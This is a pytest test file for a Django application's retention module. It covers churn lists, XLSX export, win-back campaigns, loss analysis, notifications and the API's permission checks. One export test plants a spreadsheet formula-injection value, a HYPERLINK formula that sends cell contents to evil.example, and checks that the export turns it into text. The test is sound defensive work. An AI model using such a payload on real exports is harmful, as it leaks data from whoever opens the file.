"""Retention pages and API: the tab, the lists and their export, loss analysis, campaigns, notifications."""

import datetime as dt
from decimal import Decimal
from io import BytesIO

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import Account
from analysis.models import DEFAULTS, AccountSegment, AnalysisRun
from retention import services
from retention.filters import churn_owners
from retention.models import CampaignTarget, LossRecord, Notification, Refusal, WinBackCampaign
from sales.models import ProductLine
from tests.factories import AccountFactory
from tests.retention.helpers import buy, monthly, run_as_of

pytestmark = pytest.mark.django_db

D = dt.date


def make_campaign(by, accounts, name="C"):
    data = {"name": name, "goal": "g", "method": "gift", "starts_on": D(2026, 1, 1), "ends_on": D(2026, 3, 1)}
    return services.campaign_create(by=by, **data, accounts=accounts)


@pytest.fixture
def drifting(account, kam, foreign_account, outsider):
    """`account` lost (one purchase long ago), a second own account at risk, a foreign one lost."""
    today = timezone.localdate()
    at_risk = AccountFactory(name="Slow Buyer", owner=kam, department=account.department)
    buy(account, [today - dt.timedelta(days=400)], amount="900.00")
    buy(at_risk, monthly(today - dt.timedelta(days=330), 9))
    buy(foreign_account, [today - dt.timedelta(days=300)])
    run = run_as_of(today)
    return {"run": run, "lost": account, "at_risk": at_risk, "foreign": foreign_account}


def test_the_retention_tab_shows_status_risk_health_and_history(client, kam, drifting):
    client.force_login(kam)

    page = client.get(reverse("retention:account-tab", args=[drifting["lost"].pk])).content.decode()

    assert "churn-lost" in page and "Health score" in page and "Recency vs usual rhythm" in page
    assert "days since the last purchase" in page


def test_a_refusal_recorded_on_the_tab_and_a_bad_one_gets_field_errors(client, kam, account):
    client.force_login(kam)
    url = reverse("retention:refusal-create", args=[account.pk])

    good = client.post(url, {"on": "2026-02-01", "kind": "order", "reason": "missed_deadlines"})
    future = client.post(url, {"on": "2999-01-01", "kind": "order", "reason": "price"})
    no_reason = client.post(url, {"on": "2026-02-01", "kind": "order", "reason": ""})

    assert good.status_code == 302 and future.status_code == no_reason.status_code == 400
    assert "in the future" in str(future.context["refusal_form"].errors["on"])
    assert "reason" in no_reason.context["refusal_form"].errors
    assert Refusal.objects.filter(account=account).count() == 1


def test_recording_the_loss_on_the_tab(client, kam, account):
    client.force_login(kam)
    response = client.post(
        reverse("retention:loss-create", args=[account.pk]), {"lost_on": "2026-06-01", "reason": "competitor"}
    )
    assert response.status_code == 302 and LossRecord.objects.filter(account=account).exists()


def test_the_list_shows_visible_at_risk_and_lost_accounts_with_value_at_stake(client, kam, drifting):
    client.force_login(kam)

    response = client.get(reverse("retention:churn-list"))

    rows = {s.account.name: s for s in response.context["page"]}
    assert set(rows) == {drifting["lost"].name, "Slow Buyer"}
    assert rows["Slow Buyer"].churn_status == "at_risk"
    assert rows[drifting["lost"].name].value_12m == Decimal("0.00")  # its purchase is over a year old
    assert response.context["counts"] == {"lost": 1, "at_risk": 1}


def test_the_list_says_what_its_status_and_risk_mean_over_the_runs_own_horizon(client, kam, drifting):
    client.force_login(kam)
    run = drifting["run"]
    assert run.churn_horizon_months == run.policy_values["churn_horizon_months"] == 6

    page = client.get(reverse("retention:churn-list")).content.decode()
    assert 'title="Risk of buying nothing in the next 6 months"' in page
    assert "Risk: the probability of buying nothing in the next 6 months" in page

    # A run recorded before the horizon was a policy value reads the policy's default.
    AnalysisRun.objects.filter(pk=run.pk).update(policy_values={})
    run.refresh_from_db()
    assert run.churn_horizon_months == DEFAULTS.churn_horizon_months


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("?status=lost", {"lost"}),
        ("?status=at_risk", {"at_risk"}),
        ("?dormant=30", {"lost", "at_risk"}),
        ("?dormant=200", {"lost"}),
        ("?dormant=30&status=at_risk", {"at_risk"}),
    ],
)
def test_the_list_filters_by_status_and_dormancy(client, kam, drifting, query, expected):
    client.force_login(kam)
    response = client.get(reverse("retention:churn-list") + query)
    assert {s.churn_status for s in response.context["page"]} == expected


def test_the_list_exports_the_same_rows_to_xlsx(client, kam, drifting):
    client.force_login(kam)

    response = client.get(reverse("retention:churn-list") + "?format=xlsx")

    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.values)
    assert rows[0][:4] == ("Account", "External ID", "Status", "Risk of churn")
    assert sorted(r[0] for r in rows[1:]) == sorted([drifting["lost"].name, "Slow Buyer"])


def test_an_account_name_that_looks_like_a_formula_is_text_in_the_xlsx(client, kam, drifting):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    Account.objects.filter(pk=drifting["at_risk"].pk).update(name=evil)
    client.force_login(kam)

    sheet = load_workbook(
        BytesIO(client.get(reverse("retention:churn-list") + "?format=xlsx").content)
    ).active

    assert "'" + evil in [row[0] for row in sheet.values]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_win_back_campaign_from_picked_accounts_records_outcomes_and_recovered_revenue(
    client, kam, drifting
):
    client.force_login(kam)
    today = timezone.localdate()
    lost = drifting["lost"]
    picked = f"?account={lost.pk}&account={drifting['foreign'].pk}"  # the foreign one is ignored
    form = client.get(reverse("retention:campaign-create") + picked)
    assert [a.pk for a in form.context["targets"]] == [lost.pk]

    response = client.post(
        reverse("retention:campaign-create"),
        {
            "account": [lost.pk],
            "name": "Come back",
            "goal": "Half the old volume",
            "method": "discount",
            "budget": "1000",
            "starts_on": str(today - dt.timedelta(days=5)),
            "ends_on": str(today + dt.timedelta(days=60)),
        },
    )

    campaign = WinBackCampaign.objects.get(name="Come back")
    assert response.status_code == 302 and campaign.targets.get().account == lost
    target = campaign.targets.get()
    assert target.status_at_start == "lost"
    client.post(reverse("retention:step-add", args=[target.pk]), {"action": "Sent the discount offer"})
    client.post(
        reverse("retention:target-update", args=[target.pk]),
        {f"t{target.pk}-outcome": "won_back", f"t{target.pk}-version": target.version},
    )
    buy(lost, [today - dt.timedelta(days=1)], amount="2500.00")  # the new sales arrive

    page = client.get(reverse("retention:campaign-detail", args=[campaign.pk]))

    target.refresh_from_db()
    assert target.outcome == "won_back" and target.outcome_on == today and target.steps.count() == 1
    assert page.context["results"].recovered == Decimal("2500.00")
    assert "2,500 EUR" in page.content.decode()


def test_a_stale_outcome_is_refused_with_a_message(client, kam, account, head):
    campaign = make_campaign(head, [account], name="C")
    target = campaign.targets.get()
    services.target_update(target=target, outcome="declined", version=target.version)
    client.force_login(kam)

    response = client.post(
        reverse("retention:target-update", args=[target.pk]),
        {f"t{target.pk}-outcome": "won_back", f"t{target.pk}-version": target.version},
        follow=True,
    )

    assert CampaignTarget.objects.get(pk=target.pk).outcome == "declined"
    assert "changed" in response.content.decode().lower()


def test_a_campaign_cannot_end_before_it_starts(client, head):
    client.force_login(head)
    response = client.post(
        reverse("retention:campaign-create"),
        {
            "name": "X",
            "goal": "g",
            "method": "gift",
            "budget": "0",
            "starts_on": "2026-05-01",
            "ends_on": "2026-04-01",
        },
    )
    assert response.status_code == 400 and "ends_on" in response.context["form"].errors
    assert not WinBackCampaign.objects.exists()


def test_a_kam_sees_only_campaigns_touching_their_accounts(
    client, head, kam, outsider, account, foreign_account
):
    mine = make_campaign(head, [account], name="Mine")
    make_campaign(head, [foreign_account], name="Theirs")
    client.force_login(kam)

    names = [r["campaign"].name for r in client.get(reverse("retention:campaigns")).context["rows"]]

    assert names == ["Mine"]
    assert client.get(reverse("retention:campaign-detail", args=[mine.pk])).status_code == 200
    client.force_login(outsider)
    assert client.get(reverse("retention:campaign-detail", args=[mine.pk])).status_code == 404


def test_notifications_page_badge_and_mark_read(client, kam, account):
    Notification.objects.create(user=kam, account=account, kind="churn_lost", title="Gone", url="/")
    client.force_login(kam)

    assert "1" in client.get(reverse("retention:notifications-badge")).content.decode()
    assert "Gone" in client.get(reverse("retention:notifications")).content.decode()
    client.post(reverse("retention:notifications-read"))

    assert client.get(reverse("retention:notifications-badge")).content.decode().strip() == ""


def test_loss_analysis_page(client, head, kam, drifting):
    services.loss_record_create(account=drifting["lost"], by=kam, lost_on=D(2026, 1, 1), reason="price")
    client.force_login(head)
    page = client.get(reverse("retention:losses"))
    assert page.status_code == 200 and page.context["data"]["losses"] == 1


def test_the_loss_analysis_shows_each_change_to_losses_refusals_and_names(client, head, kam, drifting):
    lost = drifting["lost"]
    line = ProductLine.objects.create(code="coils", name="Coils")
    client.force_login(head)

    def seen():
        data = client.get(reverse("retention:losses")).context["data"]
        directions = {row["key"]: row["count"] for row in data["refusal_breakdowns"]["direction"]}
        return data["losses"], data["lost_without_reason"], data["refusals"], directions

    assert seen() == (0, 2, 0, {})
    on = D(2026, 1, 5)
    refusal = services.refusal_create(account=lost, by=kam, on=on, reason="price", product_line=line)
    assert seen() == (0, 2, 1, {"Coils": 1})
    loss = services.loss_record_create(account=lost, by=kam, lost_on=D(2026, 1, 1), reason="price")
    assert seen() == (1, 1, 1, {"Coils": 1})
    line.name = "Steel coils"
    line.save()
    assert seen() == (1, 1, 1, {"Steel coils": 1})  # names are read on each view, not kept
    services.refusal_update(refusal=refusal, product_line=None)
    assert seen() == (1, 1, 1, {"(none)": 1})
    services.loss_record_delete(loss=loss)
    services.refusal_delete(refusal=refusal)
    assert seen() == (0, 2, 0, {})


@pytest.mark.skipif(not settings.REDIS_URL, reason="the counts are kept only in a shared cache (REDIS_URL)")
def test_a_steady_loss_analysis_reads_no_loss_refusal_or_segment_row(client, head, kam, drifting):
    services.refusal_create(account=drifting["lost"], by=kam, on=D(2026, 1, 5), reason="price")
    client.force_login(head)
    first = client.get(reverse("retention:losses")).context["data"]
    with CaptureQueriesContext(connection) as queries:
        again = client.get(reverse("retention:losses")).context["data"]
    assert again == first
    read = " ".join(q["sql"] for q in queries.captured_queries)
    assert not any(table in read for table in ("retention_refusal", "retention_lossrecord", "accountsegment"))


# --- API ---


def test_the_list_sorts_by_its_headers_each_way_and_shows_the_direction(client, kam, drifting):
    client.force_login(kam)
    lost, at_risk = drifting["lost"].name, "Slow Buyer"
    AccountSegment.objects.filter(run=drifting["run"], account=drifting["lost"]).update(churn_score=None)
    AccountSegment.objects.filter(run=drifting["run"], account__name=at_risk).update(churn_score=0.3)

    def listed(query=""):
        response = client.get(reverse("retention:churn-list") + query)
        assert response.status_code == 200
        return [s.account.name for s in response.context["page"]], response.content.decode()

    names, page = listed()  # most value at stake first: the lost account's purchase is over a year old
    assert names == [at_risk, lost]
    assert '<a href="?ordering=-value" class="sort-link">Value at stake (12 m) ▼</a>' in page
    assert '<a href="?ordering=score" class="sort-link">Risk</a>' in page
    names, page = listed("?ordering=-value&status=all")
    assert names == [lost, at_risk]
    assert '<a href="?status=all&amp;ordering=value" class="sort-link">Value at stake (12 m) ▲</a>' in page
    assert listed("?ordering=days")[0] == [lost, at_risk]
    assert listed("?ordering=-days")[0] == [at_risk, lost]
    # An account without a score comes last whichever way the risk is sorted.
    assert listed("?ordering=score")[0] == listed("?ordering=-score")[0] == [at_risk, lost]
    assert listed("?ordering=name")[0] == sorted([lost, at_risk])
    names, page = listed("?ordering=-name")
    assert names == sorted([lost, at_risk], reverse=True)
    assert '<a href="?ordering=name" class="sort-link">Account ▼</a>' in page
    assert listed("?ordering=-owner")[0] == sorted([lost, at_risk])  # one owner: then by name
    AccountSegment.objects.filter(run=drifting["run"], account=drifting["lost"]).update(
        days_since_last_purchase=None
    )
    assert listed("?ordering=days")[0] == listed("?ordering=-days")[0] == [at_risk, lost]


@pytest.mark.parametrize("ordering", ["name", "-name", "owner", "-owner", "score"])
def test_accounts_of_the_same_name_keep_their_places_page_after_page(client, kam, drifting, ordering):
    Account.objects.filter(name="Slow Buyer").update(name=drifting["lost"].name)
    AccountSegment.objects.filter(run=drifting["run"]).update(churn_score=0.5)
    client.force_login(kam)

    pages = [
        client.get(reverse("churn-list"), {"ordering": ordering, "page_size": 1, "page": n}).json()
        for n in (1, 2)
    ]

    ids = [page["results"][0]["account"] for page in pages]
    expected = sorted([drifting["lost"].pk, drifting["at_risk"].pk], reverse=ordering == "-name")
    assert ids == expected


def test_the_owner_choices_are_the_owners_of_the_accounts_one_sees(
    client, kam, head, teammate, outsider, account, subsidiary, department
):
    AccountFactory(name="Elsewhere", owner=teammate, department=department)  # not in kam's groups

    assert set(churn_owners(kam)) == {kam, outsider}  # outsider owns the subsidiary of kam's account
    assert set(churn_owners(head)) == {kam, outsider, teammate}
    client.force_login(kam)
    refused = client.get(reverse("churn-list"), {"owner": teammate.pk})
    assert refused.status_code == 400 and set(refused.json()) == {"owner"}
    assert client.get(reverse("churn-list"), {"owner": outsider.pk}).status_code == 200


def test_the_churn_api_lists_visible_accounts_and_checks_its_parameters(client, kam, drifting):
    client.force_login(kam)
    url = reverse("churn-list")

    body = client.get(url, {"status": "lost"}).json()
    bad = client.get(url, {"status": "gone", "dormant": "x"})

    assert [r["account"] for r in body["results"]] == [drifting["lost"].pk]
    assert bad.status_code == 400 and set(bad.json()) == {"status", "dormant"}


def test_the_health_api_explains_the_score(client, kam, drifting):
    client.force_login(kam)
    body = client.get(reverse("account-health", args=[drifting["at_risk"].pk])).json()
    assert body["churn_status"] == "at_risk" and 0 <= body["health"]["score"] <= 100
    assert {c["key"] for c in body["health"]["components"]} == {
        "rhythm",
        "trend",
        "refusals",
        "satisfaction",
        "complaints",
        "contact",
    }


def test_campaigns_through_the_api(client, head, kam, account, foreign_account, other_head):
    client.force_login(head)
    created = client.post(
        reverse("winback-campaign-list"),
        {
            "name": "API",
            "goal": "g",
            "method": "gift",
            "budget": "10",
            "starts_on": "2026-01-01",
            "ends_on": "2026-03-01",
            "accounts": [account.pk],
        },
        content_type="application/json",
    )
    assert created.status_code == 201, created.json()
    campaign = created.json()["id"]
    target = CampaignTarget.objects.get(campaign_id=campaign)
    client.force_login(kam)

    stale = client.patch(
        reverse("campaign-target-detail", args=[target.pk]),
        {"outcome": "won_back", "version": 99},
        content_type="application/json",
    )
    done = client.patch(
        reverse("campaign-target-detail", args=[target.pk]),
        {"outcome": "won_back", "version": target.version},
        content_type="application/json",
    )
    step = client.post(
        reverse("campaign-target-steps", args=[target.pk]),
        {"action": "Called"},
        content_type="application/json",
    )
    results = client.get(reverse("winback-campaign-results", args=[campaign])).json()

    assert stale.status_code == 409 and done.status_code == 200 and step.status_code == 201
    assert results["outcomes"]["won_back"] == 1
    assert (
        client.post(
            reverse("winback-campaign-targets", args=[campaign]),
            {"accounts": [account.pk]},
            content_type="application/json",
        ).status_code
        == 403
    )
    client.force_login(head)
    foreign = client.post(
        reverse("winback-campaign-targets", args=[campaign]),
        {"accounts": [foreign_account.pk]},
        content_type="application/json",
    )
    assert foreign.status_code in (201, 400)
    client.force_login(other_head)
    assert client.get(reverse("winback-campaign-detail", args=[campaign])).status_code == 404


def test_the_home_page_lists_the_owners_drifting_accounts(client, kam, drifting, outsider):
    client.force_login(kam)
    page = client.get(reverse("home")).content.decode()
    assert 'id="drifting"' in page and drifting["lost"].name in page and "Slow Buyer" in page
    assert drifting["foreign"].name not in page
    client.force_login(outsider)  # sees only the foreign account, lost
    assert "Slow Buyer" not in client.get(reverse("home")).content.decode()


def test_the_campaign_list_reads_the_revenue_of_every_campaign_at_once(client, head, account):
    client.force_login(head)
    url = reverse("retention:campaigns")

    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured)

    make_campaign(head, [account], name="One")
    one = queries()
    for n in range(3):
        make_campaign(head, [account], name=f"More {n}")
    assert queries() == one
